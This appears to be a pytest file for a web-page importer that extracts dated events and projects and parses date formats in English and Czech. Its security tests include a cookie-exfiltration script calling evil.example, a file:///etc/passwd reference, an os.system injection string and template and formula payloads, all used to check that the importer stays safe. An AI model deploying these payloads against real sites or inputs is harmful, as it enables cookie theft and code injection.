@@ -1,0 +1,372 @@
+"""Tests of the page importer (`evidence.pages`) and its date finder (`evidence.pagedates`).
+
+The expected items of the three sample pages were written down by hand from reading the
+pages, not from the importer's output. The samples are read at run time; only short
+titles and dates appear here.
+"""
+
+from __future__ import annotations
+
+import builtins
+import socket
+import urllib.request
+from datetime import date
+from difflib import SequenceMatcher
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from evidence.pagedates import find_dates, find_partial_dates
+from evidence.pages import ParsedItem, parse_page, split_items, to_records
+
+SAMPLES = Path(__file__).resolve().parents[2] / "shared" / "samples"
+D = date
+
+# (title, start, end, kind) as a careful reader finds them; a one-day event ends that day.
+# Month-only dates ("10/2016", "December 2017") run from the month's first to last day.
+EXPECTED: dict[str, list[tuple[str, date, date, str]]] = {
+    "cluster-news-page.txt": [
+        ("Grow your region", D(2017, 11, 6), D(2017, 11, 6), "event"),
+        ("Study visit Solartys", D(2017, 11, 6), D(2017, 11, 6), "event"),
+        ("Visit of the Israeli ambassador", D(2019, 4, 4), D(2019, 4, 4), "event"),
+        ("Visit of laboratories within engineering forum", D(2019, 3, 27), D(2019, 3, 27),
+         "event"),
+        ("The Czech nano sector introduced itself in Britain", D(2017, 6, 12), D(2017, 6, 14),
+         "event"),
+        ("Cosmoprof 2019 Bologna", D(2019, 3, 12), D(2019, 3, 15), "event"),
+        ("Nanoprogres on week of innovation", D(2017, 5, 22), D(2017, 5, 28), "event"),
+        ("International Conference on Textile Coating and Laminating 2019", D(2019, 3, 14),
+         D(2019, 3, 15), "event"),
+        ("Nanoprogress at the largest fair TechTextil 2017 in Frankfurt am Main", D(2017, 5, 8),
+         D(2017, 5, 12), "event"),
+        ("IMDEA Água Madrid", D(2018, 5, 25), D(2018, 5, 25), "event"),
+        ("Czech nanotechnologies were presented in the USA", D(2016, 10, 25), D(2016, 10, 28),
+         "event"),
+        ("Techconnect USA", D(2018, 5, 12), D(2018, 5, 18), "event"),
+        ("Nanoday in Brussels", D(2018, 5, 3), D(2018, 5, 3), "event"),
+        ("Czech is Nano in Austria", D(2016, 4, 20), D(2016, 4, 20), "event"),
+        ("Workshop for dissemination of cluster excellence", D(2018, 4, 5), D(2018, 4, 5),
+         "event"),
+        ("Nanoprogress has earned the Gold Label of the European Cluster Excellence Initiative",
+         D(2017, 12, 1), D(2017, 12, 31), "event"),
+        ("Adpack meeting", D(2016, 3, 2), D(2016, 3, 2), "event"),
+        ("Czech is nano Portugal", D(2017, 11, 13), D(2017, 11, 13), "event"),
+    ],
+    "association-projects-page.txt": [
+        ("KETGATE", D(2017, 7, 1), D(2020, 8, 31), "project"),
+        ("DanuBioValNet", D(2017, 1, 1), D(2019, 6, 30), "project"),
+        ("V4Clusters Go International (V4ClusGO)", D(2016, 10, 1), D(2017, 9, 30), "project"),
+        ("V4ClusterPol", D(2016, 1, 1), D(2016, 12, 31), "project"),
+        ("The Importance of Clusters for the Trade and SMEs Development", D(2016, 6, 1),
+         D(2016, 11, 30), "project"),
+        ("Gender in Innovation - Innovation in Clusters", D(2014, 12, 1), D(2015, 11, 30),
+         "project"),
+        ("V4Clusters", D(2013, 10, 1), D(2014, 12, 31), "project"),
+        ("CluStrat", D(2011, 10, 1), D(2014, 11, 30), "project"),
+    ],
+    "project-report-page.txt": [
+        ("Development of inter-cluster cross-border cooperation in emerging industries",
+         D(2016, 1, 1), D(2017, 12, 31), "project"),
+    ],
+}  # fmt: skip
+# Items a careful reader finds without a usable date: they must be problems, not records.
+# ("4 October" and "sixteenth of March" have no year; "taken from <date>" dates a source.)
+UNDATED = {
+    "cluster-news-page.txt": [
+        "Nanoprogress develops the concept of triple helix",
+        "V4Clusters Go International",
+        "Gold cluster Nanoprogress on Day of clusters",
+        "Unique machine from Liberec",
+        "Nanoprogres on the Second Czech Nano day",
+    ],
+    "association-projects-page.txt": ["CreaClust", "C-PLUS", "Constructing Regional Advantage"],
+}
+
+
+def _sample(name: str) -> str:
+    if not SAMPLES.is_dir():
+        pytest.skip(f"sample pages not found in {SAMPLES}")
+    return (SAMPLES / name).read_text(encoding="utf-8")
+
+
+def _same_title(a: str, b: str) -> bool:
+    a, b = a.casefold(), b.casefold()
+    return a in b or b in a or SequenceMatcher(None, a, b).ratio() >= 0.6
+
+
+def test_precision_and_recall_on_the_sample_pages() -> None:
+    found = expected = matched = 0
+    for name, wanted in EXPECTED.items():
+        items = parse_page(_sample(name), filename=name).items
+        found += len(items)
+        expected += len(wanted)
+        free = list(items)
+        for title, start, end, kind in wanted:
+            hit = next(
+                (i for i in free if (i.kind, i.start, i.end) == (kind, start, end)
+                 and _same_title(i.title, title)),
+                None,
+            )  # fmt: skip
+            if hit is None:
+                print(f"MISSED {name}: {title!r} {start} {end} {kind}")
+                continue
+            free.remove(hit)
+            matched += 1
+        for extra in free:
+            print(f"EXTRA {name}: {extra.title!r} {extra.start} {extra.end} {extra.kind}")
+    p, r = matched / found, matched / expected
+    print(f"precision={p:.2f} recall={r:.2f}")
+    assert p >= 0.9
+    assert r >= 0.9
+
+
+@pytest.mark.parametrize("name", sorted(EXPECTED))
+def test_every_date_is_in_its_own_item_text(name: str) -> None:
+    text = _sample(name)
+    result = parse_page(text, filename=name)
+    records = to_records(result, cluster="sample")
+    assert len(records) == len(result.items)
+    for item, record in zip(result.items, records, strict=True):
+        assert item.date_text in item.text
+        assert text[item.offset :].startswith(item.text[:20])  # the offset is the item's
+        spans = find_dates(item.date_text)
+        assert len(spans) == 1
+        assert (spans[0].start, spans[0].end) == (item.start, item.end)
+        assert (record.start, record.end) == (item.start, item.end)
+        assert record.status == "draft"
+        assert record.source is not None
+        assert (record.source.file, record.source.offset) == (name, item.offset)
+
+
+@pytest.mark.parametrize("name", sorted(UNDATED))
+def test_undated_sample_items_are_problems(name: str) -> None:
+    result = parse_page(_sample(name), filename=name)
+    titles = [i.title for i in result.items]
+    for heading in UNDATED[name]:
+        assert any(heading in message for _, message in result.problems), heading
+        assert not any(heading in t for t in titles)
+
+
+def test_fields_of_sample_items() -> None:
+    items = {i.title: i for n in EXPECTED for i in parse_page(_sample(n), filename=n).items}
+    ket = items["KETGATE"]
+    assert (ket.acronym, ket.role, ket.funder) == ("KETGATE", "partner", "European Union (ERDF)")
+    assert ket.partner_countries == ("DE", "IT", "CZ")
+    assert "Veneto Innovazione" in ket.partners
+    assert items["V4Clusters Go International (V4ClusGO)"].acronym == "V4ClusGO"
+    assert set(items["V4Clusters"].partner_countries) == {"CZ", "HU", "PL", "SK"}
+    report = items["Development of inter-cluster cross-border cooperation in emerging industries"]
+    assert report.funder == "MPO"
+    grow = items["Grow your region"]
+    assert (grow.city, grow.country, grow.role) == ("Valencia", "ES", "participant")
+    assert (items["Cosmoprof 2019 Bologna"].city, items["Cosmoprof 2019 Bologna"].country) == (
+        "Bologna", "IT",
+    )  # fmt: skip
+    assert items["Study visit Solartys"].city is None  # no place in its text: no guess
+
+
+# ---------------------------------------------------------------- find_dates, form by form
+
+CASES: list[tuple[str, str, date, date, str]] = [
+    # (text, matched text, start, end, precision)
+    ("Grow your region 6. 11. 2017", "6. 11. 2017", D(2017, 11, 6), D(2017, 11, 6), "day"),
+    ("On April 4, 2019, the ambassador", "April 4, 2019", D(2019, 4, 4), D(2019, 4, 4), "day"),
+    ("8.5. - 12.5. 2017 at the fair", "8.5. - 12.5. 2017", D(2017, 5, 8), D(2017, 5, 12), "day"),
+    ("8.5. – 12.5. 2017", "8.5. – 12.5. 2017", D(2017, 5, 8), D(2017, 5, 12), "day"),
+    ("On March 12-15, 2019, one", "March 12-15, 2019", D(2019, 3, 12), D(2019, 3, 15), "day"),
+    ("visited it between the 25th and 28th of October, 2016, to",
+     "between the 25th and 28th of October, 2016", D(2016, 10, 25), D(2016, 10, 28), "day"),
+    ("KETGATE (01/07/2017 - 31/08/2020)", "(01/07/2017 - 31/08/2020)", D(2017, 7, 1),
+     D(2020, 8, 31), "day"),
+    ("X (10/2016 - 09/2017)", "(10/2016 - 09/2017)", D(2016, 10, 1), D(2017, 9, 30), "month"),
+    ("V4Clusters (10/2013-12/2014)", "(10/2013-12/2014)", D(2013, 10, 1), D(2014, 12, 31),
+     "month"),
+    ("It started in January 2016 and ended in December 2017.",
+     "started in January 2016 and ended in December 2017", D(2016, 1, 1), D(2017, 12, 31),
+     "month"),
+    ("Konference 12. března 2019 v Brně", "12. března 2019", D(2019, 3, 12), D(2019, 3, 12),
+     "day"),
+    ("Veletrh od 8. do 12. května 2017.", "od 8. do 12. května 2017", D(2017, 5, 8),
+     D(2017, 5, 12), "day"),
+    ("Projekt od 1. června do 15. července 2018", "od 1. června do 15. července 2018",
+     D(2018, 6, 1), D(2018, 7, 15), "day"),
+    ("1. ledna 2016 až 31. prosince 2017", "1. ledna 2016 až 31. prosince 2017", D(2016, 1, 1),
+     D(2017, 12, 31), "day"),
+    ("zahájen v březnu 2019", "březnu 2019", D(2019, 3, 1), D(2019, 3, 31), "month"),
+    ("leden 2016", "leden 2016", D(2016, 1, 1), D(2016, 1, 31), "month"),
+    ("20. září 2018", "20. září 2018", D(2018, 9, 20), D(2018, 9, 20), "day"),
+    ("listopad 2017", "listopad 2017", D(2017, 11, 1), D(2017, 11, 30), "month"),
+    ("The event was from 22 to 28 May 2017.", "from 22 to 28 May 2017", D(2017, 5, 22),
+     D(2017, 5, 28), "day"),
+    ("Between May 12, 2018 and May 18, 2018, the", "Between May 12, 2018 and May 18, 2018",
+     D(2018, 5, 12), D(2018, 5, 18), "day"),
+    ("was held on 12-14. 6th 2017 and", "12-14. 6th 2017", D(2017, 6, 12), D(2017, 6, 14), "day"),
+    ("On 25 May 2018, the", "25 May 2018", D(2018, 5, 25), D(2018, 5, 25), "day"),
+    ("Adpack meeting 2.3.2016", "2.3.2016", D(2016, 3, 2), D(2016, 3, 2), "day"),
+    ("awarded in December 2017 the", "December 2017", D(2017, 12, 1), D(2017, 12, 31), "month"),
+    ("April 28 - May 2, 2019", "April 28 - May 2, 2019", D(2019, 4, 28), D(2019, 5, 2), "day"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "matched", "start", "end", "precision"), CASES)
+def test_find_dates_forms(text: str, matched: str, start: date, end: date, precision: str) -> None:
+    spans = find_dates(text)
+    assert len(spans) == 1, spans
+    span = spans[0]
+    assert (span.text, span.start, span.end, span.precision) == (matched, start, end, precision)
+    assert text[span.offset : span.offset + len(span.text)] == span.text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "today", "yesterday we met", "in 2019", "Golden Cluster 2016", "since 1992",
+        "2.22.2017",  # no 22nd month; dateparser would quietly read it as 22 February
+        "31.2.2017", "on 4 October", "on the sixteenth of March", "they may 2019 march",
+        "152 160 EUR, approx. 3.7 Mio.", "RIS3 strategy, V4 clusters", "1/0/2017",
+    ],
+)  # fmt: skip
+def test_find_dates_invents_nothing(text: str) -> None:
+    assert find_dates(text) == []
+
+
+def test_partial_dates_are_named_but_not_dates() -> None:
+    assert find_partial_dates("held on 4 October as its fourth stop") == ["4 October"]
+    assert find_partial_dates("on the sixteenth of March") == ["sixteenth of March"]
+    assert find_partial_dates("on 4 October 2017") == []
+
+
+# ---------------------------------------------------------------- pages and safety
+
+
+def test_item_without_date_is_a_problem_not_a_record() -> None:
+    page = (
+        "Our annual meeting\n\nMembers met to discuss the strategy and the budget.\n\n"
+        "Fair visit 6. 11. 2017\n\nWe attended the fair in Brno.\n"
+    )
+    result = parse_page(page, filename="news.txt")
+    assert [i.title for i in result.items] == ["Fair visit"]
+    assert result.problems == [
+        (0, "item 'Our annual meeting' at offset 0 has no date; not imported")
+    ]
+    records = to_records(result, cluster="demo")
+    assert [(r.title, r.start, r.kind) for r in records] == [
+        ("Fair visit", D(2017, 11, 6), "event")
+    ]
+    event: Any = records[0]
+    assert (event.city, event.country, event.role) == ("Brno", "CZ", "participant")
+    assert event.source.offset == page.index("Fair visit")
+
+
+def test_reference_dates_are_not_item_dates() -> None:
+    page = "Day of clusters\n\nThe day was held on 4 October. (parts taken from 10.10.2017)\n"
+    result = parse_page(page, filename="n.txt")
+    assert result.items == []
+    assert "'4 October' without a year" in result.problems[0][1]
+
+
+def test_text_items_keep_bullets_and_funding_lines() -> None:
+    page = (
+        "Current projects:\n\nSMARTCLUST (01/2018 - 06/2020)\n\n"
+        "Project co-funded by the European Union (Interreg)\n\n"
+        "The project connects clusters across borders and regions of Europe.\n\n"
+        "Project Partners:\n\n  • Alpha GmbH, DE\n  • Beta s.r.o., CZ\n  • Gamma Oy, Finland\n"
+    )
+    items = split_items(page, html=False)
+    assert [i.heading for i in items] == ["SMARTCLUST (01/2018 - 06/2020)"]
+    assert "Gamma Oy" in items[0].body
+    parsed = parse_page(page, filename="p.txt").items[0]
+    assert (parsed.kind, parsed.title, parsed.acronym) == ("project", "SMARTCLUST", "SMARTCLUST")
+    assert (parsed.start, parsed.end) == (D(2018, 1, 1), D(2020, 6, 30))
+    assert parsed.funder == "European Union (Interreg)"
+    assert parsed.partners == ("Alpha GmbH", "Beta s.r.o.", "Gamma Oy")
+    assert parsed.partner_countries == ("DE", "CZ", "FI")
+
+
+def test_kind_can_be_forced() -> None:
+    page = "Fair visit 6. 11. 2017\n\nWe attended the fair in Brno.\n"
+    assert parse_page(page, filename="x.txt", kind="project").items[0].kind == "project"
+    with pytest.raises(ValueError):
+        parse_page(page, filename="x.txt", kind="member")
+
+
+def test_cluster_name_marks_organiser() -> None:
+    page = "Nanoday 3. 5. 2018\n\nThe event was organized by Nanoprogress together with ALDE.\n"
+    item = parse_page(page, filename="x.txt", cluster_name="Nanoprogress").items[0]
+    assert item.role == "co_organiser"
+
+
+HOSTILE_HTML = """<!DOCTYPE html>
+<html><head><title>News</title><style>h2 { color: red }</style>
+<script>fetch('http://evil.example/steal?c=' + document.cookie)</script></head>
+<body>
+<h2>Grow your region 6. 11. 2017</h2>
+<p>We took part in the conference in Valencia. <img src="file:///etc/passwd"></p>
+<script>alert("12. 3. 2019")</script>
+<h2>&lt;script&gt;alert(1)&lt;/script&gt; {{ 7*7 }} =HYPERLINK("http://x") 4. 4. 2019</h2>
+<p>Our <b>own</b> meeting &amp; workshop in Brno.<iframe src="http://evil.example/"></iframe></p>
+<h2>No date here</h2><p>Just words.</p>
+</body></html>"""
+
+
+def test_html_page_splits_and_fetches_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
+    def refuse(*args: object, **kwargs: object) -> None:
+        raise AssertionError(f"something was fetched: {args!r}")
+
+    real_open = builtins.open
+
+    def guarded_open(file: Any, *args: Any, **kwargs: Any) -> Any:
+        if "passwd" in str(file) or str(file).startswith(("file:", "http")):
+            refuse(file)
+        return real_open(file, *args, **kwargs)
+
+    monkeypatch.setattr(urllib.request, "urlopen", refuse)
+    monkeypatch.setattr(socket.socket, "connect", refuse)
+    monkeypatch.setattr(builtins, "open", guarded_open)
+
+    items = split_items(HOSTILE_HTML, html=True)
+    assert [i.heading for i in items] == [
+        "Grow your region 6. 11. 2017",
+        '<script>alert(1)</script> {{ 7*7 }} =HYPERLINK("http://x") 4. 4. 2019',
+        "No date here",
+    ]
+    joined = " ".join(i.text for i in items)
+    assert 'alert("12' not in joined and "cookie" not in joined and "color" not in joined
+    assert "passwd" not in joined
+    assert HOSTILE_HTML[items[0].offset :].startswith("<h2>Grow your region")
+
+    result = parse_page(HOSTILE_HTML, filename="news.html", html=True)
+    assert [(i.title, i.start) for i in result.items] == [
+        ("Grow your region", D(2017, 11, 6)),
+        ('<script>alert(1)</script> {{ 7*7 }} =HYPERLINK("http://x")', D(2019, 4, 4)),
+    ]
+    assert len(result.problems) == 1 and "'No date here'" in result.problems[0][1]
+    records = to_records(result, cluster="demo")
+    assert records[1].title == '<script>alert(1)</script> {{ 7*7 }} =HYPERLINK("http://x")'
+    assert "Our own meeting & workshop in Brno." in result.items[1].text
+
+
+def test_python_in_titles_stays_text() -> None:
+    page = "__import__('os').system('echo pwned') 6. 11. 2017\n\nWe attended.\n"
+    item: ParsedItem = parse_page(page, filename="x.txt").items[0]
+    assert item.title == "__import__('os').system('echo pwned')"
+    assert to_records(parse_page(page, filename="x.txt"), cluster="c")[0].title == item.title
+
+
+def test_html_without_heading_tags_and_text_with_crlf() -> None:
+    page = (
+        "<p><strong>Grow your region 6. 11. 2017</strong></p>"
+        "<p>We took part in the conference in Valencia with partners from many regions.</p>"
+    )
+    items = parse_page(page, filename="a.html", html=True).items
+    assert [(i.title, i.city, i.country) for i in items] == [("Grow your region", "Valencia", "ES")]
+    crlf = "Fair visit 6. 11. 2017\r\n\r\nWe attended the fair in Brno.\r\n"
+    assert parse_page(crlf, filename="x.txt").items[0].title == "Fair visit"
+
+
+def test_dates_above_the_first_heading_are_reported() -> None:
+    page = "On 6. 11. 2017 we did many things here.\n\nHeading 7. 11. 2017\n\nBody text.\n"
+    result = parse_page(page, filename="x.txt")
+    assert [i.start for i in result.items] == [D(2017, 11, 7)]
+    assert result.problems[0][0] == 0 and "before the first heading" in result.problems[0][1]
